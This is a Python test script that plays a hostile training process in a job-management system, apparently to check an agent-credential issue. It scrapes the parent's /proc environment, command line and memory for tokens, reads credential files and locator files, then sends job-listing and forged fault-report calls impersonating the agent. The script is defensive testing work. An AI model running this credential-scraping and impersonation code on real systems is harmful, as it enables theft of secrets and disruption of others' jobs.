"""A rank that goes after its agent's credential (issue 31, F4), as a hostile training script would.

Usage: rank_probe.py RESULT.json [SERVER_ADDRESS]. It reads its parent's /proc/<ppid>/environ, cmdline,
maps and mem for credential paths and tokens, reads the files those name, reads every `taskd status`
locator of its user, then tries a control call (ReportProcessFault, which opens a recovery round) and
ListJobs with everything it found, and with nothing, against the controller(s) it knows of. It writes
what it got to RESULT.json and exits 0; a rank started again (its job restarted) finds the result there.
"""

from __future__ import annotations

import json
import os
import re
import sys
from pathlib import Path

import grpc

from taskd.proto import recover_pb2, recover_pb2_grpc, taskd_pb2, taskd_pb2_grpc

MARKERS = (b"tdj1.", b"tds1.", b"probe-admin-")  # job and status credentials, the test's admin token
TOKEN_CHARS = re.compile(rb"[A-Za-z0-9._-]{16,200}")
CREDENTIAL_FLAG = re.compile(r"^--(token|tls)")
MEM_LIMIT = 1 << 30


def read(path: str) -> bytes | None:
    try:
        return Path(path).read_bytes()
    except OSError:
        return None


def cmdline_paths(block: bytes) -> list[str]:
    """Values of --token-file/--tls-* (either form) on a command line."""
    args = [a.decode("utf-8", "replace") for a in block.split(b"\0")]
    found = []
    for i, arg in enumerate(args):
        name, eq, value = arg.partition("=")
        if CREDENTIAL_FLAG.match(name):
            if eq:
                found.append(value)
            elif i + 1 < len(args):
                found.append(args[i + 1])
    return [f for f in found if f]


def environ_paths(block: bytes) -> list[str]:
    found = []
    for entry in block.split(b"\0"):
        name, _, value = entry.decode("utf-8", "replace").partition("=")
        if name.startswith(("TASKD_TOKEN", "TASKD_TLS")) and value:
            found.append(value)
    return found


def scan_memory(pid: int) -> tuple[bool, set[str]]:
    """Whether /proc/<pid>/mem could be read, and the credential-looking strings in its writable regions."""
    maps = read(f"/proc/{pid}/maps")
    if maps is None:
        return False, set()
    found: set[str] = set()
    readable = False
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)  # noqa: SIM115 - closed below
    except OSError:
        return False, set()
    total = 0
    with mem:
        for line in maps.decode().splitlines():
            parts = line.split()
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if "rw" not in parts[1] or end - start > MEM_LIMIT or total > 4 * MEM_LIMIT:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            readable = True
            total += len(data)
            for marker in MARKERS:
                at = data.find(marker)
                while at >= 0 and len(found) < 50:
                    if (m := TOKEN_CHARS.match(data, at)) is not None:
                        found.add(m.group().decode())
                    at = data.find(marker, at + 1)
    return readable, found


def locators() -> list[dict]:
    dirs = [Path(os.environ["XDG_RUNTIME_DIR"]) / "taskd"] if os.environ.get("XDG_RUNTIME_DIR") else []
    dirs.append(Path.home() / ".taskd" / "run")
    out = []
    for folder in dirs:
        for path in sorted(folder.glob("*.json")):
            try:
                data = json.loads(path.read_text())
                out.append({"path": str(path), "address": data["address"], "token": data.get("token"),
                            "pid": int(data["pid"])})
            except (OSError, ValueError, KeyError, TypeError):
                continue
    return out


def attempt(address: str, token: str | None, jobs: list[str], agent_pid: int) -> list[dict]:
    """ListJobs, then a fault report naming rank 0 of each job, sent as the agent `agent_pid` (the identity
    its controller knows it by: host and pid): what each answered."""
    metadata = (("authorization", f"Bearer {token}"),) if token else None
    via = "nothing" if not token else token[:5]
    out = []
    with grpc.insecure_channel(address) as channel:
        try:
            listed = taskd_pb2_grpc.JobStatusStub(channel).ListJobs(taskd_pb2.JobQuery(), timeout=10,
                                                                  metadata=metadata)
            out.append({"address": address, "via": via, "call": "ListJobs", "outcome": "ok",
                        "jobs": [j.jobId for j in listed.jobs]})
            jobs = sorted(set(jobs) | {j.jobId for j in listed.jobs})
        except grpc.RpcError as exc:
            out.append({"address": address, "via": via, "call": "ListJobs", "outcome": exc.code().name})
        for job in jobs:
            request = recover_pb2.ProcessFaultRequest(
                jobId=job, faultRanks=[recover_pb2.FaultRank(rankId="0", faultType="0")], nodeRank=0,
                detail="rank_probe", host=os.uname().nodename, pid=agent_pid)
            try:
                status = recover_pb2_grpc.RecoverStub(channel).ReportProcessFault(request, timeout=10,
                                                                                  metadata=metadata)
                outcome = "accepted" if status.code == 0 else f"answered {status.code}"
            except grpc.RpcError as exc:
                outcome = exc.code().name
            out.append({"address": address, "via": via, "call": "ReportProcessFault", "job": job,
                        "outcome": outcome})
    return out


def main() -> int:
    result_path = Path(sys.argv[1])
    if result_path.exists():
        return 0
    server = sys.argv[2] if len(sys.argv) > 2 else None
    ppid = os.getppid()
    environ = read(f"/proc/{ppid}/environ")
    cmdline = read(f"/proc/{ppid}/cmdline") or b""
    mem_readable, in_memory = scan_memory(ppid)
    paths = sorted(set(environ_paths(environ or b"")) | set(cmdline_paths(cmdline)))
    tokens = set(in_memory)
    for path in paths:
        if (content := read(path)) is not None:
            tokens.add(content.decode("utf-8", "replace").strip())
    found_locators = locators()
    attempts = []
    own_job = os.environ.get("TASKD_JOB_ID", "")
    if server is not None:
        for token in [None, *sorted(tokens)]:
            attempts += attempt(server, token, [own_job], ppid)
    for loc in found_locators:
        for token in [None, *sorted(tokens | ({loc["token"]} if loc["token"] else set()))]:
            attempts += attempt(loc["address"], token, [own_job], loc["pid"])
    result = {
        "ppid": ppid, "environ_readable": environ is not None, "cmdline": cmdline.decode("utf-8", "replace"),
        "mem_readable": mem_readable, "paths": paths, "tokens": sorted(t[:5] for t in tokens),
        "locators": [{"path": loc["path"], "token": (loc["token"] or "")[:5]} for loc in found_locators],
        "attempts": attempts,
    }
    tmp = result_path.with_suffix(".tmp")
    tmp.write_text(json.dumps(result, indent=1))
    tmp.replace(result_path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
